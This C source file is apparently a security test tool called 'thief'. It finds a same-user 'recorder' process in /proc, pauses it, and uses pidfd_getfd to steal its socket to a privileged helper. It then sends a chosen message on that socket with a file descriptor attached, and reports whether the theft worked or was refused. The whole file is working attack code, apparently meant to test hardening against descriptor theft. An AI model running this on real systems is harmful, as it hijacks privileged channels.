// Takes the socket to the privileged helper from a recorder of the same user, and sends its own
// message on it.
//
//   thief PROGRAM LOG MESSAGE [SECONDS]
//
// The recorder is that of PROGRAM. LOG is created and attached to the message. The stolen socket is
// kept open for SECONDS.
//
// Prints "found" as soon as a recorder has become this user, and then "stolen" or "refused: why".
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int read_file(const char *pid, const char *name, char *to, int size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
    int fd = open(path, O_RDONLY), len = fd < 0 ? -1 : (int)read(fd, to, size - 1);
    if (fd >= 0) close(fd);
    to[len < 0 ? 0 : len] = 0;
    return len;
}

// Whether this is the recorder of the program, running as this user.
static int is_recorder(const char *pid, const char *program) {
    char text[4096], wanted[32];
    int len = read_file(pid, "cmdline", text, sizeof text), is_ours = 0;
    if (len <= 0 || strcmp(text + strlen(text) + 1, "record") != 0) return 0;
    for (char *word = text; word < text + len; word += strlen(word) + 1) is_ours |= !strcmp(word, program);
    if (!is_ours || read_file(pid, "status", text, sizeof text) <= 0) return 0;
    snprintf(wanted, sizeof wanted, "Uid:\t%u\t", getuid());
    return strstr(text, wanted) != NULL;
}

static int find(const char *program) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    int pid = 0;
    while (!pid && (entry = readdir(proc)))
        if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && is_recorder(entry->d_name, program)) pid = atoi(entry->d_name);
    closedir(proc);
    return pid;
}

static int send_with(int socket, const char *message, int log) {
    struct iovec part = {(void *)message, strlen(message)};
    union { struct cmsghdr head; char space[CMSG_SPACE(sizeof(int))]; } control = {0};
    struct msghdr all = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    control.head = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
    memcpy(CMSG_DATA(&control.head), &log, sizeof log);
    return sendmsg(socket, &all, MSG_NOSIGNAL) >= 0;
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    int log = open(argv[2], O_RDWR | O_CREAT | O_TRUNC, 0600), pid = 0, why = 0, stolen = 0;
    for (time_t end = time(NULL) + 30; !pid && time(NULL) < end;) pid = find(argv[1]);
    if (!pid) return 3;
    kill(pid, SIGSTOP);
    puts("found");
    int process = syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 3; fd < 64 && !stolen; fd++) {
        int mine = syscall(SYS_pidfd_getfd, process, fd, 0), kind = 0;
        socklen_t len = sizeof kind;
        if (mine < 0) {
            if (errno != EBADF) why = errno;
        } else if (getsockopt(mine, SOL_SOCKET, SO_TYPE, &kind, &len) == 0 && kind == SOCK_SEQPACKET) {
            stolen = send_with(mine, argv[3], log);
            if (argc > 4) sleep(atoi(argv[4]));
        }
    }
    printf(stolen ? "stolen\n" : "refused: %s\n", strerror(why));
    kill(pid, SIGCONT);
    return 0;
}
